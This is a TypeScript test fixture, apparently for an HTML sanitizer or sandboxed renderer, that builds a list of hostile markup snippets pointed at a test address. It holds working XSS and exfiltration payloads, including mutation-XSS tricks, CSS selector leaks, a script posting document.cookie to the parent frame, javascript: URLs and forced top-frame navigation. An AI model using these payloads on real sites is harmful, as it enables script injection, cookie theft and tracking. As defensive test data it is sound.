/** What a page can try in order to ask for something, run something or leave its frame: each with an address that would be noticed. */

/** Markup in which every address begins with `to`, such as `http://127.0.0.1:9`. */
export function hostileMarkup(to: string): readonly string[] {
  const at = (name: string): string => `${to}/${name}`
  return [
    `<script src="${at('script')}"></script>`,
    `<script>fetch('${at('fetch')}'); navigator.sendBeacon('${at('beacon')}'); open('${at('open')}'); top.location = '${at('top')}'; document.body.dataset.ran = 'yes'; parent.postMessage(document.cookie, '*')</script>`,
    `<script type="module">import '${at('module')}'; navigator.serviceWorker?.register('${at('worker')}')</script>`,
    `<script type="speculationrules">{"prefetch":[{"urls":["${at('speculation')}"]}]}</script>`,
    `<base href="${at('base/')}" target="_top">`,
    `<meta http-equiv="refresh" content="0;url=${at('refresh')}">`,
    `<META HTTP-EQUIV=" Refresh " CONTENT="0;URL='${at('refresh2')}'">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${at('report')}">`,
    `<link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="//name.example"><link rel="prefetch" href="${at('prefetch')}">`,
    `<link rel="preload" as="image" href="${at('preload')}"><link rel="modulepreload" href="${at('modulepreload')}"><link rel="prerender" href="${at('prerender')}">`,
    `<link rel="stylesheet" href="${at('sheet.css')}"><link rel="icon" href="${at('icon')}"><link rel="manifest" href="${at('manifest')}">`,
    `<style>@import "${at('import.css')}"; @import url(${at('import2.css')}) screen; @font-face{font-family:f;src:url(${at('font')})} p{font-family:f}</style>`,
    `<style>body{background:url(${at('css')})} input[value^="a"]{background:url("${at('leak-a')}")} p::after{content:url(${at('content')})}</style>`,
    `<style>p{background:u\\72l("${at('escaped')}")} p{background:url(${at('comment')}/**/)} p{background-image:image-set("${at('set')}" 1x)}</style>`,
    `<style>p{--a:url(${at('variable')});background:var(--a)} p{cursor:url(${at('cursor')}),auto} p{mask:src("${at('src')}")}</style>`,
    `<style>p{color:red}</style-x><img src="${at('broken-style')}"></style>`,
    `<style><!-- </style><img src=${at('comment-style')} onerror=alert(1)> --></style>`,
    `<div style="background:url('${at('attribute')}');behavior:url(${at('behaviour')});-moz-binding:url(${at('binding')})">a</div>`,
    `<div style='background:url("${at('attribute2')}");}body{background:url(${at('attribute3')})'>b</div>`,
    `<img src="${at('img')}" srcset="${at('set1')} 1x, ${at('set2')} 2x" onerror="fetch('${at('onerror')}')" onload=alert(1) lowsrc="${at('lowsrc')}" dynsrc="${at('dynsrc')}">`,
    `<picture><source srcset="${at('source')}"><img data-src="${at('lazy')}" loading=lazy></picture>`,
    `<a href="${at('link')}" ping="${at('ping')}" target="_top" autofocus onfocus="alert(1)">link</a> <a href="javascript:fetch('${at('javascript')}')" download>s</a>`,
    `<a href="data:text/html,<script src=${at('data')}></script>">d</a><a href="&#106;avascript:alert(1)">e</a><area href="${at('area')}">`,
    `<form action="${at('form')}" method=post><input name=a value=1 autofocus><input type=image src="${at('input')}"><button formaction="${at('formaction')}">x</button><input type=hidden value=secret></form>`,
    `<iframe src="${at('frame')}" srcdoc="<script>top.location='${at('srcdoc')}'</script>"></iframe><frameset><frame src="${at('frame2')}"></frameset>`,
    `<object data="${at('object')}"><param name=src value="${at('param')}"></object><embed src="${at('embed')}"><applet code="${at('applet')}"></applet>`,
    `<video src="${at('video')}" poster="${at('poster')}" autoplay></video><audio src="${at('audio')}" autoplay></audio><track src="${at('track')}">`,
    `<svg><script href="${at('svg-script')}"/><image href="${at('svg-image')}"/><use href="${at('use')}#a"/><a xlink:href="javascript:alert(1)"><text>t</text></a><style>*{background:url(${at('svg-style')})}</style><foreignObject><img src="${at('foreign')}"></foreignObject></svg>`,
    `<math><mtext><mglyph><style><img src="${at('mutation')}" onerror=alert(1)></style></mglyph></mtext><maction actiontype="statusline#${to}" xlink:href="${at('math')}">m</maction></math>`,
    `<noscript><img src="${at('noscript')}"><p title="</noscript><img src=${at('mutation2')}>">n</p></noscript>`,
    `<template><img src="${at('template')}"></template><xmp><img src="${at('xmp')}"></xmp><noembed><img src="${at('noembed')}"></noembed>`,
    `<body background="${at('background')}" onload="location='${at('onload')}'"><table background="${at('table')}"><tr><td background="${at('cell')}">c</td></tr></table>`,
    `<x-own src="${at('own')}" href="${at('own2')}" style="background:url(${at('own3')})">own</x-own><portal src="${at('portal')}"></portal>`,
    `<blockquote cite="${at('cite')}">q</blockquote><div id="cookie" name="body" itemid="${at('item')}">i</div><html manifest="${at('cache')}">`,
    `<textarea></textarea><img src="${at('after-textarea')}"><select><option><img src="${at('in-option')}"></select><title></title><img src="${at('after-title')}">`
  ]
}
